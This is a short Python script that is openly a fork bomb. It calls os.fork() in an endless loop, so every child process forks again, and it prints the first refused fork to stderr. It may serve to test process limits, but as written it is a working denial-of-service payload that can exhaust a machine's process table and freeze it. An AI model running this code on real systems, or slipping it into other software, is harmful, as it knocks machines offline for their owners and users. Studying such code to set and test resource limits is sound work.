"""Forks without end; every child does the same. Reports the first refused fork on stderr."""

import os
import sys

reported = False
while True:
    try:
        os.fork()
    except OSError as exc:
        if not reported:
            print(f"fork refused: {exc.strerror}", file=sys.stderr, flush=True)
            reported = True
